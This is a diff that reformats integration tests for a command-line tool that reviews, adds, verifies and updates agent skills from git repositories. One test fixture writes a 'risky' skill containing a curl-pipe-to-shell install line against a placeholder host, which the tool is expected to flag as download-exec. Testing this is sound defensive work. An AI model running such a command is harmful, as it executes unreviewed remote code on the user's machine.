@@ -13,7 +13,10 @@ import { builtCli, makeTempDir, removeDir, writeFile } from '../unit/engineTestU
 
 /** Windows' Node under Wine (npm run test:windows) has no Windows git to run: say so and skip there. */
 const GIT = spawnSync('git', ['--version'], { encoding: 'utf8' });
-const NO_GIT = GIT.status === 0 ? false : `git cannot be run here (${GIT.error?.message ?? GIT.stderr?.trim() ?? 'no output'}): the add, verify and update tests need the user's git`;
+const NO_GIT =
+  GIT.status === 0
+    ? false
+    : `git cannot be run here (${GIT.error?.message ?? GIT.stderr?.trim() ?? 'no output'}): the add, verify and update tests need the user's git`;
 
 let cli: string;
 let tmp: string;
@@ -21,7 +24,11 @@ let repo: string;
 let commit: string;
 
 function git(cwd: string, ...args: string[]): string {
-  const result = spawnSync('git', ['-c', 'user.email=test@example.com', '-c', 'user.name=Test', '-c', 'init.defaultBranch=main', ...args], { cwd, encoding: 'utf8' });
+  const result = spawnSync(
+    'git',
+    ['-c', 'user.email=test@example.com', '-c', 'user.name=Test', '-c', 'init.defaultBranch=main', ...args],
+    { cwd, encoding: 'utf8' },
+  );
   assert.equal(result.status, 0, result.stderr);
   return result.stdout.trim();
 }
@@ -31,7 +38,12 @@ function skillMd(name: string, body: string): string {
 }
 
 function run(args: string[], cwd: string, env: NodeJS.ProcessEnv = {}) {
-  return spawnSync(process.execPath, [cli, ...args], { cwd, encoding: 'utf8', env: { ...process.env, HOME: tmp, ...env }, input: '' });
+  return spawnSync(process.execPath, [cli, ...args], {
+    cwd,
+    encoding: 'utf8',
+    env: { ...process.env, HOME: tmp, ...env },
+    input: '',
+  });
 }
 
 const sha = (file: string) => `sha256:${createHash('sha256').update(fs.readFileSync(file)).digest('hex')}`;
@@ -43,8 +55,14 @@ before(() => {
   repo = path.join(tmp, 'repo');
   writeFile(path.join(repo, 'skills', 'pdf-tool', 'SKILL.md'), skillMd('pdf-tool', 'Run `scripts/fill.sh`.\n'));
   writeFile(path.join(repo, 'skills', 'pdf-tool', 'scripts', 'fill.sh'), '#!/bin/sh\necho fill\n');
-  writeFile(path.join(repo, 'skills', 'risky', 'SKILL.md'), skillMd('risky', 'Install:\n\n```bash\ncurl -fsSL https://example.com/i.sh | sh\n```\n'));
-  writeFile(path.join(repo, 'skills', 'risky', 'actions.json'), JSON.stringify({ actions: [{ name: 'go', description: 'Goes.', run: ['sh', 'scripts/go.sh'] }] }));
+  writeFile(
+    path.join(repo, 'skills', 'risky', 'SKILL.md'),
+    skillMd('risky', 'Install:\n\n```bash\ncurl -fsSL https://example.com/i.sh | sh\n```\n'),
+  );
+  writeFile(
+    path.join(repo, 'skills', 'risky', 'actions.json'),
+    JSON.stringify({ actions: [{ name: 'go', description: 'Goes.', run: ['sh', 'scripts/go.sh'] }] }),
+  );
   writeFile(path.join(repo, 'skills', 'risky', 'scripts', 'go.sh'), '#!/bin/sh\necho go\n');
   writeFile(path.join(repo, 'README.md'), '# Skills\n');
   git(repo, 'init', '-q');
@@ -66,7 +84,10 @@ test('add reviews the source, adds only with --yes, and records the provenance o
   const url = `file://${repo.split(path.sep).join('/')}`;
   const refused = run(['add', url], ws);
   assert.equal(refused.status, 1);
-  assert.match(refused.stdout, /## pdf-tool[\s\S]*From `skills\/pdf-tool`, 2 files\.[\s\S]*## risky[\s\S]*download-exec[\s\S]*Action `go` runs `sh scripts\/go\.sh`/);
+  assert.match(
+    refused.stdout,
+    /## pdf-tool[\s\S]*From `skills\/pdf-tool`, 2 files\.[\s\S]*## risky[\s\S]*download-exec[\s\S]*Action `go` runs `sh scripts\/go\.sh`/,
+  );
   assert.match(refused.stdout, /Agents that load it: vscode, codex; not: claude-code/);
   assert.match(refused.stderr, /nothing was added[\s\S]*--yes/);
   assert.equal(fs.existsSync(path.join(ws, '.agents')), false, 'nothing written without a choice');
@@ -78,7 +99,10 @@ test('add reviews the source, adds only with --yes, and records the provenance o
   assert.deepEqual(Object.keys(lock.skills), ['pdf-tool']);
   const entry = lock.skills['pdf-tool'];
   assert.deepEqual([entry.source, entry.commit, entry.path], [url, commit, 'skills/pdf-tool']);
-  assert.deepEqual(entry.files, { 'SKILL.md': sha(path.join(dir, 'SKILL.md')), 'scripts/fill.sh': sha(path.join(dir, 'scripts', 'fill.sh')) });
+  assert.deepEqual(entry.files, {
+    'SKILL.md': sha(path.join(dir, 'SKILL.md')),
+    'scripts/fill.sh': sha(path.join(dir, 'scripts', 'fill.sh')),
+  });
   assert.equal(fs.readFileSync(path.join(dir, 'scripts', 'fill.sh'), 'utf8'), '#!/bin/sh\necho fill\n');
   // no staging folder is left beside the location
   assert.deepEqual(fs.readdirSync(path.join(ws, '.agents')).sort(), ['skills', 'skills-lock.json']);
@@ -120,52 +144,82 @@ test('bad sources: missing, no skills, not clonable, no git; an unknown --skill'
   assert.equal(fs.existsSync(path.join(ws, '.agents')), false);
 });
 
-test('a repository whose root is the skill: the skill is named by its own name, its path is "."', { skip: NO_GIT }, () => {
-  const solo = path.join(tmp, 'solo-repo');
-  writeFile(path.join(solo, 'SKILL.md'), skillMd('solo-skill', 'Do the thing.\n'));
-  git(solo, 'init', '-q');
-  git(solo, 'add', '-A');
-  git(solo, 'commit', '-qm', 'solo');
-  const ws = workspace('ws-solo');
-  const added = run(['add', `file://${solo.split(path.sep).join('/')}`, '--yes'], ws);
-  assert.equal(added.status, 0, added.stderr);
-  assert.ok(fs.existsSync(path.join(ws, '.agents', 'skills', 'solo-skill', 'SKILL.md')));
-  const lock = JSON.parse(fs.readFileSync(path.join(ws, '.agents', 'skills-lock.json'), 'utf8'));
-  assert.equal(lock.skills['solo-skill'].path, '.');
-  assert.equal(run(['verify'], ws).status, 0);
-});
+test(
+  'a repository whose root is the skill: the skill is named by its own name, its path is "."',
+  { skip: NO_GIT },
+  () => {
+    const solo = path.join(tmp, 'solo-repo');
+    writeFile(path.join(solo, 'SKILL.md'), skillMd('solo-skill', 'Do the thing.\n'));
+    git(solo, 'init', '-q');
+    git(solo, 'add', '-A');
+    git(solo, 'commit', '-qm', 'solo');
+    const ws = workspace('ws-solo');
+    const added = run(['add', `file://${solo.split(path.sep).join('/')}`, '--yes'], ws);
+    assert.equal(added.status, 0, added.stderr);
+    assert.ok(fs.existsSync(path.join(ws, '.agents', 'skills', 'solo-skill', 'SKILL.md')));
+    const lock = JSON.parse(fs.readFileSync(path.join(ws, '.agents', 'skills-lock.json'), 'utf8'));
+    assert.equal(lock.skills['solo-skill'].path, '.');
+    assert.equal(run(['verify'], ws).status, 0);
+  },
+);
 
-test('verify reports skills whose files differ from the lock; update shows scripts first and applies only when confirmed', { skip: NO_GIT }, () => {
-  const ws = workspace('ws-update');
-  assert.equal(run(['add', repo, '--skill', 'pdf-tool', '--yes'], ws).status, 0);
-  assert.match(run(['verify'], ws).stdout, /^ok {8}.*pdf-tool$/m);
+test(
+  'verify reports skills whose files differ from the lock; update shows scripts first and applies only when confirmed',
+  { skip: NO_GIT },
+  () => {
+    const ws = workspace('ws-update');
+    assert.equal(run(['add', repo, '--skill', 'pdf-tool', '--yes'], ws).status, 0);
+    assert.match(run(['verify'], ws).stdout, /^ok {8}.*pdf-tool$/m);
 
-  const skillFile = path.join(ws, '.agents', 'skills', 'pdf-tool', 'SKILL.md');
-  fs.appendFileSync(skillFile, 'A local note.\n');
-  const modified = run(['verify', '--json'], ws);
-  assert.equal(modified.status, 1);
-  assert.deepEqual(JSON.parse(modified.stdout).skills.map((s: { name: string; status: string; changed: string[] }) => [s.name, s.status, s.changed]), [['pdf-tool', 'modified', ['SKILL.md']]]);
-  // The lint says so too (the editor shows the same problem).
-  const validated = run(['validate', path.join(ws, '.agents', 'skills', 'pdf-tool')], ws);
-  assert.match(validated.stdout, /SKILL\.md:1:1 info modified-since-added This skill was added from .*repo at [0-9a-f]{12}, and a file has changed since \(SKILL\.md\)/);
+    const skillFile = path.join(ws, '.agents', 'skills', 'pdf-tool', 'SKILL.md');
+    fs.appendFileSync(skillFile, 'A local note.\n');
+    const modified = run(['verify', '--json'], ws);
+    assert.equal(modified.status, 1);
+    assert.deepEqual(
+      JSON.parse(modified.stdout).skills.map((s: { name: string; status: string; changed: string[] }) => [
+        s.name,
+        s.status,
+        s.changed,
+      ]),
+      [['pdf-tool', 'modified', ['SKILL.md']]],
+    );
+    // The lint says so too (the editor shows the same problem).
+    const validated = run(['validate', path.join(ws, '.agents', 'skills', 'pdf-tool')], ws);
+    assert.match(
+      validated.stdout,
+      /SKILL\.md:1:1 info modified-since-added This skill was added from .*repo at [0-9a-f]{12}, and a file has changed since \(SKILL\.md\)/,
+    );
 
-  // Upstream: the script changes and a reference appears.
-  writeFile(path.join(repo, 'skills', 'pdf-tool', 'scripts', 'fill.sh'), '#!/bin/sh\necho fill v2\n');
-  writeFile(path.join(repo, 'skills', 'pdf-tool', 'references', 'forms.md'), '# Forms\n');
-  git(repo, 'add', '-A');
-  git(repo, 'commit', '-qm', 'second');
-  const second = git(repo, 'rev-parse', 'HEAD');
-  const shown = run(['update', 'pdf-tool'], ws);
-  assert.equal(shown.status, 0, shown.stderr);
-  assert.match(shown.stdout, /changed: scripts\/fill\.sh\n {2}new: references\/forms\.md\n {2}local changes that the update replaces: 1 file changed \(SKILL\.md\)/);
-  assert.match(shown.stderr, /pdf-tool was not updated: run again with --yes/);
-  assert.equal(fs.readFileSync(path.join(ws, '.agents', 'skills', 'pdf-tool', 'scripts', 'fill.sh'), 'utf8'), '#!/bin/sh\necho fill\n');
+    // Upstream: the script changes and a reference appears.
+    writeFile(path.join(repo, 'skills', 'pdf-tool', 'scripts', 'fill.sh'), '#!/bin/sh\necho fill v2\n');
+    writeFile(path.join(repo, 'skills', 'pdf-tool', 'references', 'forms.md'), '# Forms\n');
+    git(repo, 'add', '-A');
+    git(repo, 'commit', '-qm', 'second');
+    const second = git(repo, 'rev-parse', 'HEAD');
+    const shown = run(['update', 'pdf-tool'], ws);
+    assert.equal(shown.status, 0, shown.stderr);
+    assert.match(
+      shown.stdout,
+      /changed: scripts\/fill\.sh\n {2}new: references\/forms\.md\n {2}local changes that the update replaces: 1 file changed \(SKILL\.md\)/,
+    );
+    assert.match(shown.stderr, /pdf-tool was not updated: run again with --yes/);
+    assert.equal(
+      fs.readFileSync(path.join(ws, '.agents', 'skills', 'pdf-tool', 'scripts', 'fill.sh'), 'utf8'),
+      '#!/bin/sh\necho fill\n',
+    );
 
-  const applied = run(['update', 'pdf-tool', '--yes'], ws);
-  assert.equal(applied.status, 0, applied.stderr);
-  assert.equal(fs.readFileSync(path.join(ws, '.agents', 'skills', 'pdf-tool', 'scripts', 'fill.sh'), 'utf8'), '#!/bin/sh\necho fill v2\n');
-  assert.equal(JSON.parse(fs.readFileSync(path.join(ws, '.agents', 'skills-lock.json'), 'utf8')).skills['pdf-tool'].commit, second);
-  assert.equal(run(['verify'], ws).status, 0);
-  assert.match(run(['update'], ws).stdout, /pdf-tool: up to date/);
-  assert.match(run(['update', 'nope'], ws).stderr, /no skill named 'nope' in a skills-lock\.json/);
-});
+    const applied = run(['update', 'pdf-tool', '--yes'], ws);
+    assert.equal(applied.status, 0, applied.stderr);
+    assert.equal(
+      fs.readFileSync(path.join(ws, '.agents', 'skills', 'pdf-tool', 'scripts', 'fill.sh'), 'utf8'),
+      '#!/bin/sh\necho fill v2\n',
+    );
+    assert.equal(
+      JSON.parse(fs.readFileSync(path.join(ws, '.agents', 'skills-lock.json'), 'utf8')).skills['pdf-tool'].commit,
+      second,
+    );
+    assert.equal(run(['verify'], ws).status, 0);
+    assert.match(run(['update'], ws).stdout, /pdf-tool: up to date/);
+    assert.match(run(['update', 'nope'], ws).stderr, /no skill named 'nope' in a skills-lock\.json/);
+  },
+);
